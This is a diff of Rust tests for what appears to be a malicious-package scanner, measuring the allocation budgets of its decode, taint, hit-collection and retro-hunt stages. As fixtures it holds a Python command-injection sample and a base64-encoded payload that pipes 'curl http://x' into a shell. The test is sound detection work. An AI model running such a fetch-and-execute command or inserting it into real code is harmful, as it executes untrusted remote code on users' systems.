@@ -419,9 +419,13 @@ fn the_taint_engine_stays_within_its_allocation_budget() {
     assert_eq!(calls(40), calls(320));
 }
 
-/// A thread keeps its token buffer, its parse arrays and its taint
-/// scratch between calls unless a call grew them past 4 MiB; then they
-/// are freed, and the next call allocates them again.
+/// A thread keeps its token buffer, its parse arrays, its taint scratch
+/// and its decode scratch between calls unless a call grew them past
+/// 4 MiB; then they are freed, and the next call allocates them again.
+/// The large decode is a base64 literal of a Python payload whose one
+/// literal is 2.5 MiB: the decoder queues that literal and the payload,
+/// over 5 MiB of text, while the file's own string table and the lexer's
+/// buffer stay under the limit.
 #[test]
 fn a_scratch_grown_past_four_mib_is_freed() {
     let small = "import os\nx = input()\nos.system(x)\n";
@@ -447,50 +451,92 @@ fn a_scratch_grown_past_four_mib_is_freed() {
     analyze(&big);
     assert!(analyze(&small) > warm, "the taint scratch was kept");
     assert_eq!(analyze(&small), warm);
+
+    let config = ArtifactConfig {
+        max_decode_depth: 2,
+        dataflow: false,
+    };
+    let encoded = |payload: &str| {
+        let code = format!("p = '{}'\n", digest::base64::encode(payload.as_bytes()));
+        FileEntry::new("mod.py", code.into_bytes())
+    };
+    // Letters and spaces: a literal that is no payload itself.
+    let letters = (0..5u64 << 19).map(|i| b" abcdefghijklmnopqrstuvwxyz"[(i * i % 27) as usize]);
+    let literal = String::from_utf8(letters.collect()).expect("ascii");
+    let (small, big) = (
+        encoded("import os\nos.system('curl http://x | sh')\n"),
+        encoded(&format!("x = '{literal}'\n")),
+    );
+    let build = |entry: &FileEntry| {
+        let (analysis, calls) = counted(|| FileAnalysis::build(entry, None, &config));
+        assert_eq!(analysis.layers.len(), 1, "{} layers", analysis.layers.len());
+        calls
+    };
+    build(&small);
+    let warm = build(&small);
+    build(&big);
+    assert!(build(&small) > warm, "the decode scratch was kept");
+    assert_eq!(build(&small), warm);
 }
 
 /// A warmed scanner keeps its offset scratch and its regex machines, so
-/// `collect_hits` allocates exactly the `FileHits` it returns — as many
-/// allocations as cloning them takes: the slot vector (when a string hit)
-/// plus one offset vector per string that hit.
+/// `collect_hits` allocates only the `FileHits` it returns, and books
+/// them exactly: over every upload file and every decoded layer, it makes
+/// no allocation for a unit with no hit and two for a unit with hits (its
+/// slot array and its offset array), and allocates exactly
+/// `FileHits::stored_bytes()`. While each slot that hit had its own
+/// offset vector, a unit made one allocation per such slot plus one.
 #[test]
-fn a_warm_collect_hits_allocates_only_its_hits() {
+fn hits_are_booked_exactly() {
     let entries = upload_entries();
-    let scanner = warmed_scanner(&entries);
-    let (mut units_hit, mut total) = (0usize, 0u64);
+    let config = ArtifactConfig::default();
+    let mut units: Vec<Vec<u8>> = Vec::new();
     for entry in &entries {
-        let (hits, calls) = counted(|| scanner.collect_hits(entry.bytes()));
-        let (_, own) = counted(|| hits.clone());
-        assert_eq!(calls, own, "{} ({} hits)", entry.name(), hits.hit_count());
+        units.push(entry.bytes().to_vec());
+        let analysis = FileAnalysis::build(entry, None, &config);
+        units.extend(analysis.layers.into_iter().map(|l| l.data));
+    }
+    let scanner = Scanner::new(&serving_rules().0);
+    for unit in &units {
+        scanner.collect_hits(unit);
+    }
+    let (mut units_hit, mut slots) = (0usize, 0usize);
+    for (i, unit) in units.iter().enumerate() {
+        let ((hits, bytes), calls) = counted(|| counted_bytes(|| scanner.collect_hits(unit)));
+        let expected = if hits.is_empty() { 0 } else { 2 };
+        assert_eq!(calls, expected, "unit {i} ({} hits)", hits.hit_count());
+        assert_eq!(bytes, hits.stored_bytes() as u64, "unit {i}");
         units_hit += usize::from(!hits.is_empty());
-        total += calls;
+        slots += (hits.stored_bytes() - 4 * hits.hit_count()) / 8;
     }
     println!(
-        "collect_hits made {total} allocations over {} files",
-        entries.len()
+        "{units_hit} of {} units hit, across {slots} string slots",
+        units.len()
     );
-    // Vacuity guard: the regex and the literal passes both found strings.
-    assert!(
-        entries.len() > 300 && units_hit > entries.len() / 4,
-        "{units_hit} of {} files hit",
-        entries.len()
-    );
+    // Vacuity guard: layers were scanned, the regex and the literal
+    // passes both found strings, and units hit in several slots.
+    assert!(units.len() > entries.len(), "no decoded layer");
+    assert!(units_hit > entries.len() / 4, "{units_hit} units hit");
+    assert!(slots > units_hit, "{slots} slots hit");
 }
 
 /// `FileAnalysis::build` with a warmed scanner, over every upload file,
-/// stays within the allocations it was measured at: 31 023 for the lex,
+/// stays within the allocations it was measured at: 12 997 for the lex,
 /// parse, intern, decode, taint and YARA passes of every file together,
-/// its token buffer, parse arrays and taint scratch grown by a first pass
-/// as the scanner is warmed. While each lex allocated its token vector and
-/// owned literal values the same builds made 32 727; while the taint
-/// engine allocated per call, binding and fold, 98 517; with a boxed tree
+/// its token buffer, parse arrays, taint scratch and decode scratch grown
+/// by a first pass as the scanner is warmed. While each hit set held one
+/// offset vector per string slot that hit, and the decoder allocated its
+/// work lists and copied each text it queued and each folded constant,
+/// the same builds made 19 008 (the budget was 31 023); while each lex
+/// allocated its token vector and owned literal values, 32 727; while the
+/// taint engine allocated per call, binding and fold, 98 517; with a boxed tree
 /// as well (commit 3628db6),
 /// 304 968; and at commit 05c0f47, where each scan unit also got a fresh
 /// offset scratch, Pike VM and lazy DFA and the decoder cloned every
 /// literal into its queue, 369 384.
 #[test]
 fn an_artifact_build_stays_within_its_allocation_budget() {
-    const BUDGET: u64 = 31_023;
+    const BUDGET: u64 = 12_997;
     let entries = upload_entries();
     let scanner = warmed_scanner(&entries);
     let config = ArtifactConfig::default();
@@ -605,10 +651,15 @@ fn check_ledger(what: &str, spent: [u64; STAGES], budgets: &[(Stage, u64)]) {
 /// The allocations of one cold package's artifact builds and of one
 /// one-line splice, each booked to the build step it was made in, stay
 /// within that step's budget; a failure names the step. Scanner, token
-/// buffer, parse arrays and taint scratch are warmed first, as a worker's
-/// are, so neither lex allocates. Cold, the taint step allocates only the
-/// package's summaries; a splice re-runs it, and the decode and hits
-/// steps, over the whole file. The `Parse` step's bytes are pinned
+/// buffer, parse arrays, taint scratch and decode scratch are warmed
+/// first, as a worker's are, so neither lex allocates, and a decode that
+/// finds no layer allocates nothing. Cold, the taint step allocates only
+/// the package's summaries; a splice re-runs it, and the decode and hits
+/// steps, over the whole file. The hits step allocates each unit's two
+/// hit arrays; the budgets were `Decode` 5 and `Hits` 17 cold, 3 and 5
+/// for the splice, while a hit set held one offset vector per string
+/// slot and the decoder allocated its work lists per call. The `Parse`
+/// step's bytes are pinned
 /// exactly: 28 945 cold and 8 176 for the splice, mostly the modules'
 /// statement and expression arrays. They were 40 689 and 12 128 while a
 /// statement took 56 bytes and an expression 32, so a wider node fails
@@ -633,9 +684,9 @@ fn each_build_step_stays_within_its_allocation_budget() {
         &[
             (Stage::Parse, 22),
             (Stage::Intern, 6),
-            (Stage::Decode, 5),
+            (Stage::Decode, 0),
             (Stage::Taint, 9),
-            (Stage::Hits, 17),
+            (Stage::Hits, 2),
             (Stage::Assemble, 3),
         ],
     );
@@ -662,9 +713,9 @@ fn each_build_step_stays_within_its_allocation_budget() {
         &[
             (Stage::Parse, 9),
             (Stage::Intern, 4),
-            (Stage::Decode, 3),
+            (Stage::Decode, 0),
             (Stage::Taint, 9),
-            (Stage::Hits, 5),
+            (Stage::Hits, 2),
             (Stage::Assemble, 2),
         ],
     );
@@ -737,8 +788,11 @@ rule hunt_regex { strings: $r = /[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}/
     let mut hunt = None;
     let spent = ledger(|| hunt = hub.retro_hunt(&deployment));
     let hunt = hunt.expect("retro index enabled");
-    // While every confirm scan rendered its digest's hex, the same hunt
-    // made RetroConfirm 488; while the evaluator collected findings and
+    // While each candidate digest's mask was two vectors of its own in a
+    // map, the budgets were RetroQuery 648 and RetroConfirm 212, and the
+    // rescan's Idle 685; while each hit set held an offset vector per
+    // slot, RetroConfirm was 191. While every confirm scan rendered its
+    // digest's hex, the same hunt made RetroConfirm 488; while the evaluator collected findings and
     // string matches to keep only their names, 660; while the confirm
     // scan kept its own evaluation path, per-rule digest sets and name
     // map, RetroQuery 648, RetroConfirm 1 023 and Idle 39. Idle was 68
@@ -750,8 +804,8 @@ rule hunt_regex { strings: $r = /[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}/
         spent,
         &[
             (Stage::RetroSync, 94),
-            (Stage::RetroQuery, 648),
-            (Stage::RetroConfirm, 212),
+            (Stage::RetroQuery, 37),
+            (Stage::RetroConfirm, 189),
             (Stage::Idle, 65),
         ],
     );
@@ -763,7 +817,7 @@ rule hunt_regex { strings: $r = /[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}/
     check_ledger(
         "its rescan",
         spent,
-        &[(Stage::RetroConfirm, 212), (Stage::Idle, 685)],
+        &[(Stage::RetroConfirm, 189), (Stage::Idle, 71)],
     );
 
     // Vacuity guards: the atom rules pruned, the regex-only rule fell
@@ -797,12 +851,13 @@ rule hunt_regex { strings: $r = /[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}/
     let mut hunt = None;
     let hunt_spent = ledger(|| hunt = hub.retro_hunt(&deployment));
     let hunt = hunt.expect("retro index enabled");
+    // RetroQuery 323, and Idle 399 in its rescan, with a mask per digest;
     // Idle 81, and 403 in its rescan, with two literal matchers.
     check_ledger(
         "a hunt reusing the live regex",
         hunt_spent,
         &[
-            (Stage::RetroQuery, 323),
+            (Stage::RetroQuery, 20),
             (Stage::RetroConfirm, 200),
             (Stage::Idle, 77),
         ],
@@ -813,7 +868,7 @@ rule hunt_regex { strings: $r = /[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}/
     check_ledger(
         "its rescan",
         spent,
-        &[(Stage::RetroConfirm, 570), (Stage::Idle, 399)],
+        &[(Stage::RetroConfirm, 570), (Stage::Idle, 89)],
     );
     let confirm = |spent: [u64; STAGES]| spent[Stage::RetroConfirm as usize];
     assert!(confirm(hunt_spent) < confirm(spent), "reuse saved nothing");
